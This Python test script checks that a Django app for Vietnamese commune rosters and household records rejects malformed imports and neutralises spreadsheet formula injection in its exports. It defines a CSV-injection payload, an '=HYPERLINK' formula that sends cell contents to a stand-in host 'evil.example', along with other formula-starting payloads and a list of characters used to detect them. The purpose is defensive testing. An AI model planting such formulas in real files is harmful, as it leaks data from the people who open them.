"""Bad files and exports.

Bad files: roster (``members``) and household imports through ``POST /api/v1/imports/`` as a commune officer, each
file with one good row beside the bad one(s): wrong headers, impossible dates, the same row twice, a formula
(``=HYPERLINK(...)``, as a real .xlsx formula and as CSV text), a CSV in Windows-1258 instead of UTF-8, and a
50 MB file. Each must be rejected with a clear error — on the bad row (row number, column, message) where the
problem is a row's, on the file where it is the file's — and save nothing, the good row included.

Exports: members, teams, hamlets and households whose names start with ``= + - @`` (and tab / carriage return)
are exported — roster .xlsx (``/teams/export.xlsx``), households .xlsx and .csv (``/api/v1/households/export…``),
the monthly report .xlsx — and no cell of any file may be a formula or start with one of those characters.
"""

from __future__ import annotations

import argparse
import csv
import io
import sys
import unicodedata

from robustness.common import Row, django_setup, emit, scratch_database

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'


def _member(commune_code: str, name: str, phone: str, **extra) -> dict:
    row = {
        "commune_code": commune_code, "hamlet": "Ấp RA1", "full_name": name, "gender": "Nam", "phone": phone,
        "organization": "Đoàn Thanh niên", "role": "Thành viên", "joined_on": "01/03/2024",
    }  # fmt: skip
    return row | extra


def _household(commune_code: str, code: str, **extra) -> dict:
    row = {"commune_code": commune_code, "hamlet": "Ấp RA1", "code": code, "head_name": f"Chủ hộ {code}", "size": "3"}
    return row | extra


def _csv(columns, rows: list[dict], encoding: str = "utf-8", headers: list[str] | None = None) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(headers or [c.header for c in columns])
    for row in rows:
        writer.writerow([row.get(c.key, "") for c in columns])
    if encoding == "cp1258":  # Windows' Vietnamese code page writes tone marks as combining characters
        return unicodedata.normalize("NFD", out.getvalue()).encode(encoding, errors="replace")
    return out.getvalue().encode(encoding)


def _xlsx(columns, rows: list[dict]) -> bytes:
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.append([c.header for c in columns])
    for row in rows:
        sheet.append([row.get(c.key, "") for c in columns])  # a text starting with "=" is stored as a formula
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def _big_csv(columns, good: dict, megabytes: int) -> bytes:
    head = _csv(columns, [good])
    filler = ("# " + "x" * 1020 + "\n").encode()
    return head + filler * (megabytes * 1024 * 1024 // len(filler) + 1)


def bad_files() -> tuple[Row, list[str]]:
    from django.core.files.uploadedfile import SimpleUploadedFile
    from rest_framework.test import APIClient

    from areas.models import Area
    from households.models import Household
    from households.resources import HouseholdImport
    from members.models import Member
    from members.resources import MemberImport
    from robustness import world as world_module

    world = world_module.build()
    officer = world.users["commune_officer"]
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Token {world_module.token(officer)}")
    code = Area.objects.get(pk=world.corners["A1"].commune).code
    m_cols, h_cols = MemberImport.columns, HouseholdImport.columns
    good_m = _member(code, "Nguyễn Văn Tốt", "0933000001")
    good_h = _household(code, "TOT-1")
    # (kind, case, file name, content, where the error must be: "row" N or "file")
    cases = [
        ("members", "wrong headers", "a.csv", _csv(m_cols, [good_m], headers=["Tên", "Tuổi", "Quê"]), "file"),
        ("members", "bad dates", "a.csv", _csv(m_cols, [good_m, _member(code, "Trần Thị Ngày", "0933000002",
                                                                       joined_on="31/02/2024")]), 3),
        ("members", "bad dates (xlsx)", "a.xlsx", _xlsx(m_cols, [good_m, _member(code, "Lê Văn Ngày", "0933000003",
                                                                                 trained_on="2024-13-45")]), 3),
        ("members", "duplicate rows", "a.csv", _csv(m_cols, [good_m, good_m]), 3),
        ("members", "formula (xlsx)", "a.xlsx", _xlsx(m_cols, [good_m, _member(code, HYPERLINK, "0933000004")]), 3),
        ("members", "formula (csv)", "a.csv", _csv(m_cols, [good_m, _member(code, HYPERLINK, "0933000005")]), 3),
        ("members", "non-UTF-8 CSV", "a.csv", _csv(m_cols, [good_m], encoding="cp1258"), "file"),
        ("members", "50 MB file", "a.csv", _big_csv(m_cols, good_m, 50), "file"),
        ("households", "wrong headers", "h.csv", _csv(h_cols, [good_h], headers=["Mã", "Tên"]), "file"),
        ("households", "bad size", "h.csv", _csv(h_cols, [good_h, _household(code, "SAI-1", size="ba")]), 3),
        ("households", "duplicate rows", "h.csv", _csv(h_cols, [good_h, good_h]), 3),
        ("households", "formula (xlsx)", "h.xlsx", _xlsx(h_cols, [good_h, _household(code, "CT-1",
                                                                                     head_name=HYPERLINK)]), 3),
        ("households", "formula (csv)", "h.csv", _csv(h_cols, [good_h, _household(code, "CT-2",
                                                                                  head_name=HYPERLINK)]), 3),
        ("households", "non-UTF-8 CSV", "h.csv", _csv(h_cols, [good_h], encoding="cp1258"), "file"),
        ("households", "50 MB file", "h.csv", _big_csv(h_cols, good_h, 50), "file"),
    ]  # fmt: skip
    report, failed = [], 0
    for kind, case, name, content, where in cases:
        before = (Member.objects.count(), Household.objects.count())
        upload = SimpleUploadedFile(name, content, content_type="application/octet-stream")
        response = client.post(
            "/api/v1/imports/", {"kind": kind, "file": upload, "dry_run": "false"}, format="multipart"
        )
        saved = (Member.objects.count() - before[0]) + (Household.objects.count() - before[1])
        body = response.json() if response["Content-Type"].startswith("application/json") else {}
        if response.status_code == 201:
            errors = body.get("errors", [])
            rejected = body.get("status") == "rejected"
        else:  # refused before reading (e.g. too large): a 400 naming the file
            errors = [{"row": None, "field": f, "message": " ".join(map(str, m))} for f, m in body.items()]
            rejected = response.status_code == 400
        if where == "file":
            clear = any(e["message"] for e in errors)
        else:
            clear = any(e["row"] == where and e["field"] and e["message"] for e in errors)
        ok = rejected and clear and saved == 0
        failed += not ok
        first = next((e for e in errors if where == "file" or e["row"] == where), errors[0] if errors else {})
        report.append(
            f"{'ok  ' if ok else 'FAIL'} {kind:10} {case:18} {len(content) / 1e6:6.1f} MB → {response.status_code} "
            f"{body.get('status', '')} rows saved {saved}; error: row {first.get('row')} "
            f"{first.get('field', '')}: {str(first.get('message', ''))[:110]}"
        )
    row = Row(
        "bad files: roster and household imports",
        "a clear per-row error, 0 rows saved from a rejected file",
        f"{len(cases) - failed} of {len(cases)} bad files rejected with a clear error and 0 rows saved "
        "(wrong headers, bad dates, duplicate rows, =HYPERLINK formulas in .xlsx and .csv, Windows-1258 CSV, 50 MB)",
        failed == 0,
    )
    return row, report


def _cells_of(content: bytes, kind: str) -> list[tuple[str, object, bool]]:
    """(where, value, is_formula) of every non-empty cell of an .xlsx (every sheet) or a .csv."""
    if kind == "csv":
        text = content.decode("utf-8-sig")
        return [(f"csv:{i}", v, False) for i, row in enumerate(csv.reader(io.StringIO(text))) for v in row if v]
    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(content))  # not read-only: data_type tells formulas apart
    return [
        (f"{sheet.title}!{cell.coordinate}", cell.value, cell.data_type == "f")
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value not in (None, "")
    ]


def exports() -> tuple[Row, list[str]]:
    from django.test import Client

    from accounts.models import User
    from areas import services as area_services
    from areas.models import Area
    from households import services as household_services
    from members import services as member_services
    from reports import services as report_services
    from reports.models import Report
    from robustness import world as world_module
    from teams import services as team_services

    world = world_module.build()
    commune = Area.objects.get(pk=world.corners["A1"].commune)
    officer = User.objects.get(pk=world.users["commune_officer"])
    payloads = ["=1+1", "+84 912", "-2+3", "@SUM(A1:A9)", "\t=cmd", "\r=cmd", HYPERLINK]
    from cnscd.text import clean_text

    for i, raw in enumerate(payloads):
        # Planted as the boundary stores text (cnscd.text): a leading tab or CR is cut, the formula stays.
        text = clean_text(raw)
        hamlet = area_services.hamlet_create(parent=commune, name=f"{text} ấp {i}", kind="Ấp")
        team = team_services.team_found(acting_user=None, area=hamlet, name=f"{text} tổ", established_on="2024-01-01")
        member_services.member_create(
            acting_user=None, team=team, full_name=f"{text} tên", gender="male", organization="other",
            phone=f"09440000{i:02d}", role="leader",
        )  # fmt: skip
        household_services.household_create(
            acting_user=None, area=hamlet, code=f"{text[:12]}{i}", head_name=f"{text} chủ hộ", address=f"{text} địa chỉ"
        )
    client = Client()
    client.force_login(officer)
    files = {
        "roster .xlsx (/teams/export.xlsx)": (client.get("/teams/export.xlsx").content, "xlsx"),
        "households .xlsx": (client.get("/api/v1/households/export-xlsx/").content, "xlsx"),
        "households .csv": (client.get("/api/v1/households/export/").content, "csv"),
    }
    report_obj = report_services.report_request(acting_user=officer, area=commune, period="2026-10")
    report_services.report_generate(report_id=report_obj.pk)
    report_obj = Report.objects.get(pk=report_obj.pk)
    download = client.get(f"/api/v1/reports/{report_obj.pk}/download/")
    files["monthly report .xlsx"] = (b"".join(download.streaming_content), "xlsx")
    lines, bad, seen = [], 0, 0
    for name, (content, kind) in files.items():
        cells = _cells_of(content, kind)
        planted = [c for c in cells if any(p.strip("\t\r")[:4] in str(c[1]) for p in payloads)]
        dangerous = [c for c in cells if c[2] or (isinstance(c[1], str) and c[1].startswith(FORMULA_START))]
        bad += len(dangerous)
        seen += len(planted)
        lines.append(
            f"{name}: {len(cells)} cells, {len(planted)} with a planted value, {len(dangerous)} formula-like"
            + (f" e.g. {dangerous[0][0]} = {dangerous[0][1]!r}" if dangerous else "")
        )
        if not planted:
            lines.append(f"  (no planted value found in {name}: the check would be empty)")
            bad += 1
    row = Row(
        "exports: cells starting with = + - @",
        "neutralised (no formula injection)",
        f"{len(files)} exports (roster, households .xlsx/.csv, monthly report), {seen} cells holding = + - @ tab CR "
        f"payloads: {bad} formula-like cells",
        bad == 0,
    )
    return row, lines


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--quick", action="store_true", help="(the same files: it takes seconds)")
    parser.add_argument("--verbose", action="store_true")
    parser.parse_args()
    django_setup(DATABASE_URL=scratch_database("files"))
    rows = []
    for check in (bad_files, exports):
        row, lines = check()
        rows.append(row)
        for line in lines:
            print(line, file=sys.stderr)
    emit(rows)


if __name__ == "__main__":
    main()
